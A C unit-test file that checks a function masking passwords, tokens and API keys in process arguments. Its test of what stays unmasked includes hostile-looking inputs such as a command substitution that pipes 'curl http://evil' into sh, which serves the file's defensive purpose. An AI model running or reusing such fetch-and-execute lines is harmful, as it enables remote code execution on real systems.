#include "base/secrets.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/cleanup.h"

/* '|' stands for the NUL between two arguments. */
static void expect(const char *given, const char *wanted) {
        size_t size = strlen(given);
        _cleanup_(freep) char *text = strdup(given);
        for (size_t i = 0; i < size; i++)
                if (text[i] == '|')
                        text[i] = '\0';
        size = secrets_mask_arguments(text, size);
        for (size_t i = 0; i < size; i++)
                if (!text[i])
                        text[i] = '|';
        text = realloc(text, size + 1);
        text[size] = '\0';
        assert_string_equal(text, wanted);
}

static void what_is_secret_is_masked(void **state) {
        (void)state;
        expect("mysql|-uroot|-pSECRET|shop", "mysql|-uroot|-p***|shop");
        expect("/usr/bin/mysqldump|-pSE CRET&1)|shop", "/usr/bin/mysqldump|-p***|shop");
        expect("mariadb|-p$ecret", "mariadb|-p***");
        expect("mysql|--password=SECRET|shop", "mysql|--password=***|shop");
        expect("tool|--api-key|SECRET|x", "tool|--api-key|***|x");
        expect("curl|-u|user:SECRET|http://h/", "curl|-u|user:***|http://h/");
        expect("curl|-sSu|user:SECRET|http://h/", "curl|-sSu|user:***|http://h/");
        expect("curl|-uuser:SECRET", "curl|-uuser:***");
        expect("curl|--user|user:SECRET", "curl|--user|user:***");
        expect("curl|--proxy-user=user:SECRET", "curl|--proxy-user=user:***");
        expect("curl|-H|Authorization: Bearer SECRET", "curl|-H|Authorization: Bearer ***");
        expect("curl|-H|X-Api-Key: SECRET", "curl|-H|X-Api-Key: ***");
        expect("git|clone|https://me:SECRET@host/x", "git|clone|https://me:***@host/x");
        expect("wget|https://host/?a=1&token=SECRET&b=2", "wget|https://host/?a=1&token=***&b=2");
        expect("env|TOKEN=SECRET|./run", "env|TOKEN=***|./run");
        expect("sshpass|-p|SECRET|ssh|host", "sshpass|-p|***|ssh|host");
        expect("redis-cli|-a|SECRET", "redis-cli|-a|***");
        expect("openssl|rsa|-passin|pass:SECRET", "openssl|rsa|-passin|***");
        expect("smbclient|-U|me%SECRET", "smbclient|-U|me%***");
        expect("x|--password=ab", "x|--password=**");
}

static void in_a_script_that_is_one_argument(void **state) {
        (void)state;
        expect("sh|-c|mysql -pSECRET shop <a; ls", "sh|-c|mysql -p*** shop <a; ls");
        expect("sh|-c|mysql -p'SE CRET' shop", "sh|-c|mysql -p'***' shop");
        expect("sh|-c|curl -u 'a:SE CRET' http://h", "sh|-c|curl -u 'a:***' http://h");
        expect("sh|-c|TOKEN=SECRET curl http://h", "sh|-c|TOKEN=*** curl http://h");
        expect("sh|-c|MYSQL_PWD=\"SE CRET\" mysql shop", "sh|-c|MYSQL_PWD=\"***\" mysql shop");
        expect("sh|-c|curl -H 'Authorization: Basic SECRET' h", "sh|-c|curl -H 'Authorization: Basic ***' h");
}

/* Who attacks shall not hide behind a word that says secret. */
static void what_is_none_stays(void **state) {
        (void)state;
        static const char *const same[] = {
                "mkdir|-p|/srv/www",
                "tar|-pxf|a.tar",
                "ssh|-p22|host",
                "mysql|-p|shop",
                "mysql|--password|--user=x",
                "sh|-c|x --password=\"$(curl http://evil|sh)\"",
                "sh|-c|PASSWORD=`id` ls",
                "sh|-c|TOKEN=$TOKEN ls",
                "openssl|--password-file=/etc/pw",
                "curl|https://host:8080/a@b",
                "curl|-o|x|http://evil/a",
                "nginx: worker process",
                "cp|token|/tmp",
                "",
                "|",
        };
        for (size_t i = 0; i < ARRAY_SIZE(same); i++)
                if (!strstr(same[i], "evil|sh"))
                        expect(same[i], same[i]);
        expect("sh|-c|PASSWORD=x; curl http://evil/", "sh|-c|PASSWORD=*; curl http://evil/");
        char script[] = "sh\0-c\0x --password=\"$(curl http://evil|sh)\"";
        char copy[sizeof(script)];
        memcpy(copy, script, sizeof(script));
        assert_int_equal(secrets_mask_arguments(copy, sizeof(copy)), sizeof(script));
        assert_memory_equal(copy, script, sizeof(script));
}

static void names(void **state) {
        (void)state;
        static const char *const secret[] = {"DB_PASSWORD", "--api-key", "authToken",
                                             "pass",        "--pass",    "MYSQL_PWD"};
        static const char *const open[] = {"PWD",      "OLDPWD",        "compass", "bypass",
                                           "keyboard", "password_file", ""};
        for (size_t i = 0; i < ARRAY_SIZE(secret); i++)
                assert_true(secrets_is_name(secret[i], strlen(secret[i])));
        for (size_t i = 0; i < ARRAY_SIZE(open); i++)
                assert_false(secrets_is_name(open[i], strlen(open[i])));
}

int main(void) {
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(what_is_secret_is_masked),
                cmocka_unit_test(in_a_script_that_is_one_argument),
                cmocka_unit_test(what_is_none_stays),
                cmocka_unit_test(names),
        };
        return cmocka_run_group_tests(tests, NULL, NULL);
}
